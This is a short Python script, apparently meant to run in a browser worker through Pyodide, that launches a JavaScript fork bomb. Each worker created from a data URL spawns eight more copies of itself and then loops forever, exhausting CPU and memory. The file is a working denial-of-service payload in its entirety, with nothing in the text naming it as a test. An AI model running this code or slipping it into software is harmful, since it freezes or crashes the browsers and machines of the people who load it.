"""Starts workers inside the worker, each of which starts more."""

import js

bomb = "for (let i = 0; i < 8; i++) new Worker(location.href); for (;;) {}"
for _ in range(8):
    js.Worker.new("data:text/javascript," + js.encodeURIComponent(bomb))
